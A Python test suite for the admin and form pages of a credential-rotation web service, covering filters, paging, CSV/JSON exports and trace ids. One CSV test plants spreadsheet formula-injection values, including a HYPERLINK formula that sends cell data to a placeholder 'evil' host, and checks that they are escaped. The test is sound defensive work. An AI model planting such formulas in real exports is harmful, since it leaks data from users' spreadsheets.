"""What people see beyond the four states: the 422 error summary, the calm
running page, the admin table (selects, quick ranges, Newer/Older with the
position, latency/attempts/tokens, <time> in UTC), exports and the detail's
W3C trace id. Through nginx, against the real database."""
import base64
import csv
import io
import json
import os
import re
import time
import urllib.parse

from harness import check, eq, get, psql, request, restart_keyrota, test
from test_admin import admin, fresh_account, insert_traces
from test_pages import submit

TIME_RE = r'<time datetime="\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z">\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC</time>'


def unescape(href):
    return href.replace("&amp;", "&")


def link(html, id_):
    m = re.search(r'<a href="([^"]+)" id="%s"' % re.escape(id_), html)
    return unescape(m.group(1)) if m else None


def rows_of(html):
    return re.findall(r'<a href="/admin/traces/(tr_[A-Za-z0-9_-]+)"><code>', html)


def insert_one(account, **cols):
    """One completed trace with the given extra columns; returns its id."""
    tid = "tr_" + base64.urlsafe_b64encode(os.urandom(16)).decode().rstrip("=")
    names = ["trace_id", "account_id", "status", "decision", "rotation_window_days",
             "source_line_ids", "finished_at", "latency_ms", "prompt_version", "provider",
             "request_model", "input_fingerprint", "fingerprint_key_id"]
    values = [tid, account, "completed", "eligible", "30", "{P-7}", "now()", "5",
              "rotation_decision@2", "fixture", "m", "abcdef012345", "fk_test"]
    for k, v in cols.items():
        if k in names:
            values[names.index(k)] = str(v)
        else:
            names.append(k)
            values.append(str(v))
    params = [v for v in values if v != "now()"]
    # psql variables are numbered by position; now() is not one.
    n = 0
    parts = []
    for v in values:
        if v == "now()":
            parts.append("now()")
        else:
            n += 1
            parts.append(":'p%d'" % n)
    psql("INSERT INTO traces (%s) VALUES (%s)" % (", ".join(names), ", ".join(parts)), *params)
    return values[0]


@test
def form_422_has_an_error_summary_linked_to_each_field():
    r, _, _ = submit(report="short", account="acct_1", item="ab")
    eq(r.status, 422)
    m = re.search(r'<div class="error-summary" id="error-summary" role="alert" tabindex="-1"'
                  r'.*?</div>', r.text, re.S)
    check(m, "no error summary")
    summary = m.group(0)
    # It comes before the form, and links each message to its field.
    check(r.text.index('id="error-summary"') < r.text.index('id="report-form"'), "summary first")
    for field in ("account_id", "credential_report", "item"):
        check('<a href="#%s">' % field in summary, "no link to " + field)
        check('id="%s"' % field in r.text, field)
    check("The account ID must look like acct_12345" in summary, summary)
    # A clean form has none.
    ok = get("/", headers={"Accept": "text/html"})
    check("error-summary" not in ok.text, "summary on the idle page")


@test
def running_page_is_calm_and_offers_check_again():
    restart_keyrota(KEYROTA_FIXTURE_DELAY_MS=3000)
    try:
        r, _, _ = submit()
        eq(r.status, 303)
        page = get(r.headers["location"], headers={"Accept": "text/html"})
        eq(page.status, 200)
        check("Checking policy P-7..." in page.text, page.text[:300])
        check('<noscript><meta http-equiv="refresh" content="4"></noscript>' in page.text,
              "calm refresh without JS")
        eq(page.headers.get("retry-after"), "4", "Retry-After says the same interval")
        check('data-retry-after="4"' in page.text, "the script reads the same interval")
        check(link(page.text, "check-again") == r.headers["location"], "Check again link")
        check("<button" not in page.text, "stale form controls on the running page")
        check('id="submit"' not in page.text, "the form's id reused")
        # The live region lives outside <main>, which the script replaces.
        main_end = page.text.index("</main>")
        region = page.text.index('id="announcer"')
        check(region > main_end, "live region inside the swapped node")
        check('aria-live="polite"' in page.text[region - 200:region + 200], "not a live region")
        check('aria-live' not in page.text[page.text.index('id="trace"'):main_end],
              "a second live region inside main")
        check(re.search(TIME_RE, page.text), "started time is a <time> in UTC")
    finally:
        restart_keyrota()


@test
def admin_filters_are_selects_for_the_closed_sets():
    acct = fresh_account()
    insert_traces(acct, 2, "failed", "provider_timeout")
    page = admin("/admin/traces", json_=False, account_id=acct, status="failed",
                 error_code="provider_timeout")
    eq(page.status, 200)
    status = re.search(r'<select id="f_status" name="status">(.*?)</select>', page.text, re.S)
    check(status, "status is not a select")
    eq(re.findall(r'<option value="([^"]*)"', status.group(1)),
       ["", "running", "completed", "failed"])
    check('<option value="failed" selected>' in status.group(1), "chosen status not selected")
    codes = re.search(r'<select id="f_error_code" name="error_code">(.*?)</select>',
                      page.text, re.S)
    check(codes, "error code is not a select")
    eq(re.findall(r'<option value="([^"]*)"', codes.group(1)),
       ["", "unknown_account", "provider_timeout", "provider_unavailable",
        "provider_rate_limited", "provider_auth", "invalid_decision", "policy_conflict",
        "worker_lost", "internal_error"])
    check('<option value="provider_timeout" selected>' in codes.group(1), "chosen code")
    eq(len(rows_of(page.text)), 2)


@test
def quick_ranges_keep_the_other_filters_and_fix_the_start():
    acct = fresh_account()
    insert_traces(acct, 3, "completed", minutes_ago=30)     # 30 minutes old
    insert_traces(acct, 2, "completed", minutes_ago=0)      # just now
    insert_traces(acct, 4, "completed", minutes_ago=60 * 30)  # 30 hours old
    page = admin("/admin/traces", json_=False, account_id=acct, to="2020-01-01")
    hrefs = {}
    for label in ("Last 15 minutes", "Last hour", "Last 24 hours", "Last 7 days"):
        m = re.search(r'<a href="([^"]+)" class="button secondary">%s</a>' % label, page.text)
        check(m, "no quick range " + label)
        hrefs[label] = unescape(m.group(1))
        q = urllib.parse.parse_qs(urllib.parse.urlsplit(hrefs[label]).query)
        eq(q.get("account_id"), [acct], "range link drops the account filter")
        check("to" not in q and "from" not in q, "range link keeps the old times")
    want = {"Last 15 minutes": 2, "Last hour": 5, "Last 24 hours": 5, "Last 7 days": 9}
    for label, n in want.items():
        r = admin(urllib.parse.urlsplit(hrefs[label]).path, json_=False,
                  **{k: v[0] for k, v in urllib.parse.parse_qs(
                      urllib.parse.urlsplit(hrefs[label]).query).items()})
        eq(r.status, 200, label)
        eq(len(rows_of(r.text)), n, label)
        # The range became a fixed UTC start in the form, which the page
        # links keep, so paging shows the same stretch.
        frm = re.search(r'name="from" value="(\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d)"', r.text)
        check(frm, "range not shown as a start time")
        csv_href = link(r.text, "export-csv")
        check(csv_href and "from=" + urllib.parse.quote(frm.group(1)) in csv_href, csv_href)
    eq(admin("/admin/traces", range="3d").status, 422, "unknown range")


@test
def table_shows_latency_attempts_tokens_utc_times_and_links():
    acct = fresh_account()
    tid = insert_one(acct, latency_ms=1234, provider_attempts=2, input_tokens=321,
                     output_tokens=45)
    page = admin("/admin/traces", json_=False, account_id=acct)
    eq(page.status, 200)
    for th in ("Latency", "Attempts", "Tokens in / out"):
        check('>%s</th>' % th in page.text, "no column " + th)
    row = re.search(r'<tr><td><time.*?</tr>', page.text, re.S).group(0)
    check(re.search(TIME_RE, row), "created is not a <time> in UTC: " + row)
    check('<a href="/admin/traces/%s"><code>%s</code></a>' % (tid, tid) in row, row)
    for cell in ("1234 ms", ">2<", "321 / 45"):
        check(cell in row, "row lacks %s: %s" % (cell, row))
    check('class="table-scroll"' in page.text, "table does not scroll in its own box")
    j = admin("/admin/traces", account_id=acct).json()["traces"][0]
    eq((j["latency_ms"], j["provider_attempts"], j["gen_ai.usage.input_tokens"],
        j["gen_ai.usage.output_tokens"]), (1234, 2, 321, 45))


@test
def newer_and_older_keep_filters_and_position():
    acct = fresh_account()
    insert_traces(acct, 120, "completed", minutes_ago=20)
    insert_traces(fresh_account(), 5, "completed", minutes_ago=20)  # filtered out
    first = admin("/admin/traces", json_=False, account_id=acct, status="completed")
    check('id="position">Traces 1–50<' in first.text, "position on page 1")
    check(link(first.text, "newer-page") is None, "Newer on the newest page")
    pages = [rows_of(first.text)]
    html = first.text
    for pos in ("51–100", "101–120"):
        href = link(html, "next-page")
        check(href, "no Older link")
        q = urllib.parse.parse_qs(urllib.parse.urlsplit(href).query)
        eq((q["account_id"], q["status"]), ([acct], ["completed"]), "filters kept")
        html = admin("/admin/traces", json_=False,
                     **{k: v[0] for k, v in q.items()}).text
        check('id="position">Traces %s<' % pos in html, "position " + pos)
        pages.append(rows_of(html))
    eq([len(p) for p in pages], [50, 50, 20])
    eq(len({t for p in pages for t in p}), 120, "no duplicates or misses")
    check(link(html, "next-page") is None, "Older on the oldest page")
    # Back up with Newer: the same pages, in the same order.
    for want, pos in ((pages[1], "51–100"), (pages[0], "1–50")):
        href = link(html, "newer-page")
        check(href, "no Newer link")
        q = urllib.parse.parse_qs(urllib.parse.urlsplit(href).query)
        eq((q["account_id"], q["status"]), ([acct], ["completed"]), "filters kept")
        html = admin("/admin/traces", json_=False, **{k: v[0] for k, v in q.items()}).text
        eq(rows_of(html), want, "Newer page " + pos)
        check('id="position">Traces %s<' % pos in html, "position " + pos)
    check(link(html, "newer-page") is None, "Newer on the newest page")
    eq(admin("/admin/traces", before="garbage|tr_x").status, 422)
    eq(admin("/admin/traces", pos="-1").status, 422)


def export(fmt, **params):
    return admin("/admin/traces", json_=False, format=fmt, **params)


@test
def csv_export_is_filtered_and_safe_in_spreadsheets():
    acct = fresh_account()
    insert_traces(acct, 3, "failed", "provider_timeout")
    evil = insert_one(acct, response_id='=HYPERLINK("http://evil/?"&A1)',
                      finish_reason="+cmd", response_model="-2+3", request_model="@SUM(1)")
    insert_traces(fresh_account(), 4, "completed")          # another account
    r = export("csv", account_id=acct)
    eq(r.status, 200, r.text[:300])
    check(r.headers["content-type"].startswith("text/csv"), r.headers)
    check("attachment" in r.headers.get("content-disposition", ""), r.headers)
    eq(r.headers.get("cache-control"), "no-store")
    check("content-length" not in r.headers, "export was buffered, not streamed")
    rows = list(csv.reader(io.StringIO(r.text)))
    header = rows[0]
    for col in ("trace_id", "created_at", "status", "error_code", "latency_ms",
                "provider_attempts", "input_tokens", "output_tokens", "response_id"):
        check(col in header, "no column " + col)
    eq(len(rows), 1 + 4, "only the filtered traces")
    by_id = {row[0]: dict(zip(header, row)) for row in rows[1:]}
    e = by_id[evil]
    eq(e["response_id"], "'" + '=HYPERLINK("http://evil/?"&A1)', "formula kept as text")
    eq(e["finish_reason"], "'+cmd")
    eq(e["response_model"], "'-2+3")
    eq(e["request_model"], "'@SUM(1)")
    check('"\'=HYPERLINK(""http://evil/?""&A1)"' in r.text, "formula cell not quoted")
    eq(sum(1 for row in rows[1:] if row[header.index("error_code")] == "provider_timeout"), 3)
    # Traces of `keyrota eval` only with the origin filter, as in the list.
    ev = insert_one(acct, eval="true")
    eq([r[0] for r in csv.reader(io.StringIO(export("csv", account_id=acct).text))].count(ev), 0)
    rows = list(csv.reader(io.StringIO(export("csv", account_id=acct, origin="all").text)))
    eq({row[0]: row[header.index("eval")] for row in rows[1:]}[ev], "true")
    eq(len(rows), 1 + 5)


@test
def json_export_matches_and_states_the_cap():
    acct = fresh_account()
    insert_traces(acct, 3, "completed")
    r = export("json", account_id=acct)
    eq(r.status, 200)
    check("attachment" in r.headers.get("content-disposition", ""), r.headers)
    body = r.json()
    eq((len(body["traces"]), body["row_cap"], body["truncated"]), (3, 10000, False))
    t = body["traces"][0]
    for k in ("trace_id", "created_at", "status", "decision", "error.type", "latency_ms",
              "provider_attempts", "gen_ai.usage.input_tokens", "gen_ai.request.model"):
        check(k in t, "JSON export lacks " + k)
    eq((t["status"], t["decision"], t["error.type"], t["latency_ms"]),
       ("completed", "eligible", None, 5))
    # Current OpenTelemetry GenAI names (docs/telemetry.md).
    eq((t["gen_ai.provider.name"], t["gen_ai.operation.name"], t["gen_ai.prompt.name"],
        t["gen_ai.prompt.version"]), ("keyrota.fixture", "chat", "rotation_decision", "2"))
    check("gen_ai.system" not in t, "gen_ai.system in the JSON export")
    eq(export("xml").status, 422, "unknown format")
    eq(export("csv", **{"from": "2026-02-30"}).status, 422, "impossible date")


@test
def exports_stop_at_the_documented_cap():
    acct = fresh_account()
    insert_traces(acct, 10005, "completed", minutes_ago=10, step_s=0)
    started = time.monotonic()
    body = export("json", account_id=acct).json()
    eq((len(body["traces"]), body["truncated"]), (10000, True))
    rows = list(csv.reader(io.StringIO(export("csv", account_id=acct).text)))
    # The header, the cap's rows, and a last line that says the CSV was cut.
    eq(len(rows), 1 + 10000 + 1)
    check(rows[-1][0].startswith("# truncated at the export cap of 10000 rows"), rows[-1])
    print("    two exports of 10000 rows: %.2fs" % (time.monotonic() - started))
    psql("DELETE FROM traces WHERE account_id = :'p1'", acct)


@test
def detail_shows_attempts_w3c_id_and_downloads_json():
    r = request("POST", "/rotation/decide", body=json.dumps(
        {"account_id": "acct_10234", "credential_report":
         "The CI deploy key of this service account is stale."}).encode(),
        headers={"Content-Type": "application/json"})
    tid = r.json()["trace_id"]
    raw = base64.urlsafe_b64decode(tid[3:] + "==")
    w3c = raw.hex()
    eq(len(w3c), 32)
    page = admin("/admin/traces/" + tid, json_=False)
    eq(page.status, 200, "detail of " + tid)
    check('<code id="d-w3c">%s</code>' % w3c in page.text, "W3C trace id")
    check(re.search(r'id="d-attempts">1<', page.text), "attempts")
    check(len(re.findall(TIME_RE, page.text)) >= 2, "created and finished as <time>")
    href = link(page.text, "export-trace-json")
    eq(href, "/admin/traces/%s?format=json" % tid)
    d = admin("/admin/traces/" + tid, json_=False, format="json")
    eq(d.status, 200)
    check(d.headers["content-type"].startswith("application/json"), d.headers)
    check('attachment; filename="keyrota-%s.json"' % tid in
          d.headers.get("content-disposition", ""), d.headers)
    body = d.json()
    eq((body["trace_id"], body["w3c_trace_id"], body["provider_attempts"]), (tid, w3c, 1))
    # A trace id whose last character carries bits past the 128th (not
    # one keyrota made) has no W3C id.
    odd = insert_one(fresh_account(), trace_id="tr_" + base64.urlsafe_b64encode(
        os.urandom(16)).decode()[:21] + "B")
    page = admin("/admin/traces/" + odd, json_=False)
    eq(page.status, 200)
    check('id="d-w3c"' not in page.text, "a W3C id for an id without one")
    eq(admin("/admin/traces/" + odd).json()["w3c_trace_id"], None)
